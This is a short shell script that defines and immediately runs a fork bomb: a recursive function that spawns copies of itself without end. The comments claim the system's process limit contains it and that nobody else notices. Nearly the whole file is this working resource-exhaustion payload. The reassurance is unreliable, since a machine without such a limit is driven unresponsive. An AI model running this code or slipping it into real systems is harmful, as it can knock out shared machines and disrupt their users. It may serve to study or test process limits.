# SPDX-License-Identifier: MIT
# Begets processes without end. The limit of processes holds it, and nobody else notices.
bomb() {
    bomb | bomb &
}

echo "starting"
bomb
sleep 2
echo "the machine is still there"
